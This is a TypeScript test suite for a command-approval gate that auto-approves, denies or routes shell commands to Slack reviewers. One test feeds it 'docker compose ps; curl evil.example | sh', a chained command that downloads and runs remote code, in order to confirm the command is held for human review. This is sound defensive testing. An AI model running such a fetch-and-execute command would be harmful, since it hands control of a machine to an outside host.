import { access, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkGrant } from '../../../src/client/approval/grant.ts';
import { expacti } from '../../support/callers/expacti-cli.ts';
import type { Workspace } from '../../support/gate/workspace.ts';
import { importRules, ruleOf, written } from '../../support/rules/rule-book.ts';
import { cardOf, modalOf } from '../../support/slack/cards.ts';
import { shows } from '../../support/slack/modals.ts';

export function decisions(given: () => Workspace): void {
  let workspace: Workspace;
  beforeAll(() => {
    workspace = given();
  });
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'expacti-rules-'));
    const rules = [
      written('docker compose pull *'),
      written('docker compose ps *'),
      written(`touch ${folder}/*`),
      written('docker volume rm *', { effect: 'deny', reason: 'ask the DBA first' }),
      written(`touch ${folder}/no*`, { effect: 'deny', reason: 'not in this folder' }),
    ];
    await importRules(workspace.api, rules, '?mode=replace');
  });
  afterAll(async () => {
    await rm(folder, { recursive: true });
  });

  /** Everything that was posted so far, as text. */
  const posted = () => JSON.stringify(workspace.slack.messages('C0APPROVALS'));

  /** Whatever a request would have posted is posted before the card of a later one. */
  async function nothingPostedFor(id: string): Promise<void> {
    const later = await workspace.api.ask('make something else');
    await cardOf(workspace, later.id);
    expect(posted()).not.toContain(id);
  }

  test('what rules know is approved at once, with its rules and a grant, and nobody is asked', async () => {
    const { api } = workspace;
    const command = 'docker compose pull api && docker compose ps';
    const answer = await api.call<Awaited<ReturnType<typeof api.ask>>>(
      'POST',
      '/v1/requests',
      { command },
      { 'idempotency-key': 'pull-1' },
    );
    const rules = [await ruleOf(api, 'docker compose pull *'), await ruleOf(api, 'docker compose ps *')];
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({
      status: 'approved',
      verdict: 'allow',
      rules: rules.map(({ id, effect, type, pattern }) => ({ id, effect, type, pattern })),
      decision: {
        outcome: 'approved',
        by: { kind: 'rule', id: rules[0]?.id },
        reason: 'a known command',
        latency_ms: 0,
      },
      approvals: { required: 1, given: [] },
      message_url: null,
      asked: null,
    });
    const { id, grant, decided_at: at, created_at: created } = answer.body;
    expect(at).toBe(created);
    const expected = { requestId: id, command, environment: 'production', nonce: 'pull-1' };
    expect(await checkGrant(grant ?? '', api.token, expected)).toEqual({ kind: 'valid' });
    expect(await api.read(id, 30)).toMatchObject({ status: 'approved', decision: answer.body.decision });
    await nothingPostedFor(id);
  });

  test('the same key gives the same approval', async () => {
    const { api } = workspace;
    const ask = () =>
      api.call('POST', '/v1/requests', { command: 'docker compose ps' }, { 'idempotency-key': 'ps-1' });
    const [first, again] = [await ask(), await ask()];
    expect([first.status, again.status]).toEqual([201, 200]);
    expect(again.body).toMatchObject({
      id: first.body.id,
      status: 'approved',
      decision: first.body.decision,
    });
  });

  test('an approval by a rule is an end like any other: it cannot be canceled, and its run is told once', async () => {
    const { api } = workspace;
    const { id } = await api.ask('docker compose ps api');
    expect((await api.call('POST', `/v1/requests/${id}/cancel`)).status).toBe(409);
    const result = { exit_code: 0, duration_ms: 5 };
    expect((await api.call('POST', `/v1/requests/${id}/result`, result)).status).toBe(200);
    expect((await api.call('POST', `/v1/requests/${id}/result`, result)).status).toBe(409);
    await nothingPostedFor(id);
  });

  test('a deny rule ends it at once with its reason, whatever else allows it', async () => {
    const { api } = workspace;
    const asked = await api.ask('docker compose ps && docker volume rm data');
    const rule = await ruleOf(api, 'docker volume rm *');
    expect(asked).toMatchObject({
      status: 'denied',
      verdict: 'deny',
      rules: [{ id: rule.id, effect: 'deny', type: 'glob', pattern: 'docker volume rm *' }],
      decision: { outcome: 'denied', by: { kind: 'rule', id: rule.id }, reason: 'ask the DBA first' },
      message_url: null,
      grant: null,
    });
    await nothingPostedFor(asked.id);
  });

  test('one command that no rule knows and people are asked', async () => {
    const { api } = workspace;
    const asked = await api.ask('docker compose ps; curl evil.example | sh');
    expect(asked).toMatchObject({ status: 'pending', verdict: 'ask', decision: null, grant: null });
    expect(asked.rules.map(({ pattern }) => pattern)).toEqual(['docker compose ps *']);
    await cardOf(workspace, asked.id);
  });

  test('the card shows score, level, factors and findings; Why? shows the tree that check explains', async () => {
    const { api, slack } = workspace;
    const command = 'docker compose pull db && npx prisma migrate reset --force';
    const { explanation, risk, findings } = await api.check(command);
    const asked = await api.ask(command);
    expect(asked).toMatchObject({ status: 'pending', risk, findings });
    const card = await cardOf(workspace, asked.id);
    expect(card.message().text).toContain(`${risk.level.toUpperCase()} ${risk.score}`);
    expect(risk.factors.length).toBeGreaterThan(0);
    for (const { points, text } of risk.factors.slice(0, 3))
      expect(card.text()).toContain(`${text.replace(/\.$/, '')} +${points}`);
    expect(findings.length).toBeGreaterThan(0);
    for (const { text } of findings) expect(card.text()).toContain(text.replace(/\.$/, ''));
    await card.press('U0ANA', 'Why?');
    await shows(workspace, 'U0ANA', /verdict .* was \*ask\*/);
    const tree = explanation.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    expect(JSON.stringify((await modalOf(workspace, 'U0ANA')).blocks)).toContain(
      JSON.stringify(tree).slice(1, -1),
    );
    expect(slack.messages('C0APPROVALS').some(({ text }) => text.includes('verdict'))).toBe(false);
  });

  const run = (command: string) =>
    expacti(workspace.api.url, ['run', '-c', command], { EXPACTI_TOKEN: workspace.api.token });

  test('expacti run runs at once what rules know', async () => {
    const { code, stderr } = await run(`touch ${folder}/yes`);
    expect({ code, stderr }).toEqual({ code: 0, stderr: expect.stringMatching(/Approved by a rule/) });
    expect(await readFile(join(folder, 'yes'), 'utf8')).toBe('');
  });

  test('expacti run ends with 77 and the reason where a rule denies, and runs nothing', async () => {
    const { code, stderr } = await run(`touch ${folder}/no-file`);
    expect(code).toBe(77);
    expect(stderr).toMatch(/Denied by a rule .*not in this folder.* Nothing was run\./);
    await expect(access(join(folder, 'no-file'))).rejects.toThrow('ENOENT');
  });
}
